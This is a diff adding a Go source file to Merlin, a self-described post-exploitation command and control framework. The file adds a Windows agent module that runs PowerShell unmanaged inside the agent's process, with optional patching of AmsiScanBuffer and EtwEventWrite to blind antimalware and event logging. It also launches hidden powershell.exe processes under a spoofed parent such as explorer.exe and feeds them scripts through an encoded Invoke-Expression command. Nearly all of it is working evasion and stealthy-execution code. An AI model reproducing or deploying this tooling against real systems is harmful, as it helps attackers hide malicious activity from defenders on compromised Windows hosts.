@@ -0,0 +1,338 @@
+// +build windows
+
+// Merlin is a post-exploitation command and control framework.
+// This file is part of Merlin.
+// Copyright (C) 2019  Russel Van Tuyl
+
+// Merlin is free software: you can redistribute it and/or modify
+// it under the terms of the GNU General Public License as published by
+// the Free Software Foundation, either version 3 of the License, or
+// any later version.
+
+// Merlin is distributed in the hope that it will be useful,
+// but WITHOUT ANY WARRANTY; without even the implied warranty of
+// MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+// GNU General Public License for more details.
+
+// You should have received a copy of the GNU General Public License
+// along with Merlin.  If not, see <http://www.gnu.org/licenses/>.
+
+package agent
+
+import (
+	// Standard
+	"encoding/base64"
+	"errors"
+	"fmt"
+	"io/ioutil"
+	"os"
+	"path/filepath"
+	"runtime"
+	"unicode/utf16"
+	"unsafe"
+
+	// Sub Repositories
+	"golang.org/x/sys/windows"
+)
+
+// Method indexes in the virtual function tables of the reflection COM interfaces used to run PowerShell
+const (
+	iAppDomainLoad2    = 44
+	iAssemblyGetType2  = 17
+	iTypeInvokeMember3 = 57
+)
+
+// The System.Reflection.BindingFlags used to find the PowerShell class' members
+const (
+	bindingInstance     = 0x4
+	bindingStatic       = 0x8
+	bindingPublic       = 0x10
+	bindingInvokeMethod = 0x100
+)
+
+// procThreadAttributeParentProcess is the PROC_THREAD_ATTRIBUTE_PARENT_PROCESS attribute that sets a new process' parent
+const procThreadAttributeParentProcess = 0x00020000
+
+// startupInfoEx is the STARTUPINFOEX structure CreateProcess takes with the EXTENDED_STARTUPINFO_PRESENT flag
+type startupInfoEx struct {
+	windows.StartupInfo
+	ProcThreadAttributeList uintptr
+}
+
+// automationAssemblies are the System.Management.Automation assemblies for PowerShell 3.0 and later, and 2.0
+var automationAssemblies = []string{
+	"System.Management.Automation, Version=3.0.0.0, Culture=neutral, PublicKeyToken=31bf3856ad364e35",
+	"System.Management.Automation, Version=1.0.0.0, Culture=neutral, PublicKeyToken=31bf3856ad364e35",
+}
+
+// powerShellWrapper runs the base64 encoded script and writes its output and errors, formatted as they would be in a
+// console, to the console the agent redirected to the output pipe. The script is compiled inside the try block so
+// parse errors are returned as output.
+const powerShellWrapper = `try { & ([ScriptBlock]::Create([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('%s')))) %s | ` +
+	`Out-String -Stream -Width 4096 | ForEach-Object { [Console]::Out.WriteLine($_) } } catch { [Console]::Out.WriteLine(($_ | Out-String)) }`
+
+// executePowerShell runs the script in a PowerShell runspace hosted by the CLR inside the agent's process, without
+// starting powershell.exe, and returns its output. AmsiScanBuffer and EtwEventWrite are patched first when requested.
+func executePowerShell(script string, amsi bool, etw bool) (string, error) {
+	assemblyExecuteMutex.Lock()
+	defer assemblyExecuteMutex.Unlock()
+	runtime.LockOSThread()
+	defer runtime.UnlockOSThread()
+
+	domain, notes, release, err := clrDomain("", amsi, etw)
+	if err != nil {
+		return "", err
+	}
+	defer release()
+
+	var automation uintptr
+	var version int
+	for i, name := range automationAssemblies {
+		bstr, errB := sysAllocString(name)
+		if errB != nil {
+			return "", errB
+		}
+		err = comCall(domain, iAppDomainLoad2, bstr, uintptr(unsafe.Pointer(&automation)))
+		sysFreeString(bstr)
+		if err == nil {
+			version = i
+			break
+		}
+	}
+	if err != nil {
+		return "", fmt.Errorf("there was an error loading System.Management.Automation; PowerShell is not installed:\r\n%s", err.Error())
+	}
+	defer comRelease(automation)
+
+	name, err := sysAllocString("System.Management.Automation.PowerShell")
+	if err != nil {
+		return "", err
+	}
+	var powerShellType uintptr
+	err = comCall(automation, iAssemblyGetType2, name, uintptr(unsafe.Pointer(&powerShellType)))
+	sysFreeString(name)
+	if err != nil || powerShellType == 0 {
+		return "", errors.New("there was an error getting the System.Management.Automation.PowerShell type")
+	}
+	defer comRelease(powerShellType)
+
+	// PowerShell 2.0 can not redirect every stream to the output
+	redirect := "*>&1"
+	if version > 0 {
+		redirect = "2>&1"
+	}
+	wrapped := fmt.Sprintf(powerShellWrapper, base64.StdEncoding.EncodeToString([]byte(script)), redirect)
+
+	var empty variant
+	ps, err := invokeMember(powerShellType, "Create", bindingStatic|bindingPublic|bindingInvokeMethod, &empty, nil)
+	if err != nil {
+		return "", fmt.Errorf("there was an error creating the PowerShell runspace:\r\n%s", err.Error())
+	}
+	defer variantClear(&ps)
+
+	bstr, err := sysAllocString(wrapped)
+	if err != nil {
+		return "", err
+	}
+	added, err := invokeMember(powerShellType, "AddScript", bindingInstance|bindingPublic|bindingInvokeMethod, &ps, []variant{{vt: VT_BSTR, val: bstr}})
+	sysFreeString(bstr)
+	if err != nil {
+		return "", fmt.Errorf("there was an error adding the script to the PowerShell runspace:\r\n%s", err.Error())
+	}
+	variantClear(&added)
+
+	// Invoke is overloaded with generic methods reflection can not choose between, so the script is started with
+	// BeginInvoke and waited for with EndInvoke
+	async, err := invokeMember(powerShellType, "BeginInvoke", bindingInstance|bindingPublic|bindingInvokeMethod, &ps, nil)
+	if err != nil {
+		return "", fmt.Errorf("there was an error starting the PowerShell script:\r\n%s", err.Error())
+	}
+	results, err := invokeMember(powerShellType, "EndInvoke", bindingInstance|bindingPublic|bindingInvokeMethod, &ps, []variant{async})
+	variantClear(&async)
+	variantClear(&results)
+	output, errOutput := assemblyOutputPipe.collect()
+	if errOutput != nil {
+		notes += errOutput.Error() + "\r\n"
+	}
+	if err != nil {
+		return notes + output, fmt.Errorf("the PowerShell runspace threw an exception:\r\n%s", err.Error())
+	}
+	return notes + output, nil
+}
+
+// invokeMember calls Type.InvokeMember on the .NET type with the arguments and returns the result. The target is an
+// empty VARIANT for static members and the object otherwise.
+func invokeMember(typ uintptr, name string, flags uint32, target *variant, args []variant) (variant, error) {
+	var result variant
+	var array uintptr
+	if len(args) > 0 {
+		var err error
+		if array, err = variantSafeArray(args); err != nil {
+			return result, err
+		}
+		defer destroySafeArray(array)
+	}
+	member, err := sysAllocString(name)
+	if err != nil {
+		return result, err
+	}
+	defer sysFreeString(member)
+	if unsafe.Sizeof(*target) > 16 {
+		err = comCall(typ, iTypeInvokeMember3, member, uintptr(flags), 0, uintptr(unsafe.Pointer(target)), array, uintptr(unsafe.Pointer(&result)))
+	} else {
+		words := (*[4]uintptr)(unsafe.Pointer(target))
+		err = comCall(typ, iTypeInvokeMember3, member, uintptr(flags), 0, words[0], words[1], words[2], words[3], array, uintptr(unsafe.Pointer(&result)))
+	}
+	if err != nil {
+		return result, fmt.Errorf("there was an error invoking %s:\r\n%s", name, err.Error())
+	}
+	return result, nil
+}
+
+// variantClear releases the string, array, or object a VARIANT holds
+func variantClear(v *variant) {
+	if v.vt != VT_EMPTY {
+		_, _, _ = windows.NewLazySystemDLL("oleaut32.dll").NewProc("VariantClear").Call(uintptr(unsafe.Pointer(v)))
+	}
+}
+
+// powerPick runs the script with powershell.exe started as a child of the parent process, or of explorer.exe when
+// the parent is 0, and returns its output. The process' standard handles are pipes duplicated into the parent so the
+// child inherits them from it.
+func powerPick(script string, ppid uint32) (string, error) {
+	if ppid == 0 {
+		_, pid, err := getProcess("explorer.exe", 0)
+		if err != nil {
+			return "", fmt.Errorf("there was an error finding explorer.exe to use as the parent process:\r\n%s", err.Error())
+		}
+		ppid = pid
+	}
+	parent, err := windows.OpenProcess(windows.PROCESS_CREATE_PROCESS|windows.PROCESS_DUP_HANDLE, false, ppid)
+	if err != nil {
+		return "", fmt.Errorf("there was an error opening parent process %d:\r\n%s", ppid, err.Error())
+	}
+	defer windows.CloseHandle(parent) // #nosec G104
+
+	var stdinRead, stdinWrite, stdoutRead, stdoutWrite windows.Handle
+	if err = windows.CreatePipe(&stdinRead, &stdinWrite, nil, 0); err != nil {
+		return "", fmt.Errorf("there was an error creating the standard input pipe:\r\n%s", err.Error())
+	}
+	if err = windows.CreatePipe(&stdoutRead, &stdoutWrite, nil, 0); err != nil {
+		_ = windows.CloseHandle(stdinRead)
+		_ = windows.CloseHandle(stdinWrite)
+		return "", fmt.Errorf("there was an error creating the standard output pipe:\r\n%s", err.Error())
+	}
+	stdin := os.NewFile(uintptr(stdinWrite), "stdin")
+	stdout := os.NewFile(uintptr(stdoutRead), "stdout")
+	defer stdout.Close() // #nosec G307
+
+	// The child inherits handles from the spoofed parent, so the pipe ends it uses are duplicated into the parent
+	var childIn, childOut windows.Handle
+	self, err := windows.GetCurrentProcess()
+	if err != nil {
+		_ = stdin.Close()
+		return "", fmt.Errorf("there was an error getting the agent's process handle:\r\n%s", err.Error())
+	}
+	errIn := windows.DuplicateHandle(self, stdinRead, parent, &childIn, 0, true, windows.DUPLICATE_SAME_ACCESS|windows.DUPLICATE_CLOSE_SOURCE)
+	errOut := windows.DuplicateHandle(self, stdoutWrite, parent, &childOut, 0, true, windows.DUPLICATE_SAME_ACCESS|windows.DUPLICATE_CLOSE_SOURCE)
+	closeInParent := func(h windows.Handle) {
+		if h != 0 {
+			_ = windows.DuplicateHandle(parent, h, 0, nil, 0, false, windows.DUPLICATE_CLOSE_SOURCE)
+		}
+	}
+	if errIn != nil || errOut != nil {
+		closeInParent(childIn)
+		closeInParent(childOut)
+		_ = stdin.Close()
+		return "", fmt.Errorf("there was an error duplicating the pipes into parent process %d", ppid)
+	}
+
+	attributes, deleteAttributes, err := parentAttributeList(&parent)
+	if err != nil {
+		closeInParent(childIn)
+		closeInParent(childOut)
+		_ = stdin.Close()
+		return "", err
+	}
+	defer deleteAttributes()
+
+	si := startupInfoEx{ProcThreadAttributeList: uintptr(unsafe.Pointer(&attributes[0]))}
+	si.Cb = uint32(unsafe.Sizeof(si))
+	si.Flags = windows.STARTF_USESTDHANDLES | windows.STARTF_USESHOWWINDOW
+	si.ShowWindow = windows.SW_HIDE
+	si.StdInput, si.StdOutput, si.StdErr = childIn, childOut, childOut
+
+	// The encoded command reads the whole script from standard input so it is not limited by the command line length
+	command := `$ProgressPreference='SilentlyContinue'; Invoke-Expression ([Console]::In.ReadToEnd()) 2>&1 | Out-String -Width 4096`
+	encoded := base64.StdEncoding.EncodeToString(utf16Bytes(command))
+	exe := filepath.Join(os.Getenv("SystemRoot"), "System32", "WindowsPowerShell", "v1.0", "powershell.exe")
+	cmdLine, err := windows.UTF16PtrFromString(fmt.Sprintf(`"%s" -NoLogo -NoProfile -NonInteractive -EncodedCommand %s`, exe, encoded))
+	if err != nil {
+		closeInParent(childIn)
+		closeInParent(childOut)
+		_ = stdin.Close()
+		return "", err
+	}
+	var pi windows.ProcessInformation
+	err = windows.CreateProcess(nil, cmdLine, nil, nil, true, windows.EXTENDED_STARTUPINFO_PRESENT|windows.CREATE_NO_WINDOW, nil, nil, &si.StartupInfo, &pi)
+	// Only the child holds its pipe ends once it is started, so reading its output ends when it exits
+	closeInParent(childIn)
+	closeInParent(childOut)
+	if err != nil {
+		_ = stdin.Close()
+		return "", fmt.Errorf("there was an error starting powershell.exe under parent process %d:\r\n%s", ppid, err.Error())
+	}
+	defer windows.CloseHandle(pi.Process) // #nosec G104
+	defer windows.CloseHandle(pi.Thread)  // #nosec G104
+
+	go func() {
+		_, _ = stdin.WriteString(script)
+		_ = stdin.Close()
+	}()
+	output, err := ioutil.ReadAll(stdout)
+	_, _ = windows.WaitForSingleObject(pi.Process, windows.INFINITE)
+	if err != nil {
+		return string(output), fmt.Errorf("there was an error reading the output of powershell.exe:\r\n%s", err.Error())
+	}
+	return fmt.Sprintf("Started powershell.exe (PID %d) under parent process %d\r\n%s", pi.ProcessId, ppid, output), nil
+}
+
+// parentAttributeList returns a process thread attribute list that makes the parent handle the parent of a new process,
+// and a function that deletes the list once the process is created. The handle must stay in place until then.
+func parentAttributeList(parent *windows.Handle) ([]byte, func(), error) {
+	kernel32 := windows.NewLazySystemDLL("kernel32.dll")
+	InitializeProcThreadAttributeList := kernel32.NewProc("InitializeProcThreadAttributeList")
+	UpdateProcThreadAttribute := kernel32.NewProc("UpdateProcThreadAttribute")
+	DeleteProcThreadAttributeList := kernel32.NewProc("DeleteProcThreadAttributeList")
+
+	// The first call fails and returns the size of the list for one attribute
+	var size uintptr
+	_, _, _ = InitializeProcThreadAttributeList.Call(0, 1, 0, uintptr(unsafe.Pointer(&size)))
+	if size == 0 {
+		return nil, nil, errors.New("there was an error getting the size of the process attribute list")
+	}
+	attributes := make([]byte, size)
+	list := uintptr(unsafe.Pointer(&attributes[0]))
+	ok, _, err := InitializeProcThreadAttributeList.Call(list, 1, 0, uintptr(unsafe.Pointer(&size)))
+	if ok == 0 {
+		return nil, nil, fmt.Errorf("there was an error creating the process attribute list:\r\n%s", err.Error())
+	}
+	deleteList := func() {
+		_, _, _ = DeleteProcThreadAttributeList.Call(list)
+	}
+	ok, _, err = UpdateProcThreadAttribute.Call(list, 0, procThreadAttributeParentProcess, uintptr(unsafe.Pointer(parent)), unsafe.Sizeof(*parent), 0, 0)
+	if ok == 0 {
+		deleteList()
+		return nil, nil, fmt.Errorf("there was an error setting the parent process attribute:\r\n%s", err.Error())
+	}
+	return attributes, deleteList, nil
+}
+
+// utf16Bytes returns the string encoded as UTF-16LE bytes, the encoding of PowerShell's -EncodedCommand
+func utf16Bytes(s string) []byte {
+	var b []byte
+	for _, c := range utf16.Encode([]rune(s)) {
+		b = append(b, byte(c), byte(c>>8))
+	}
+	return b
+}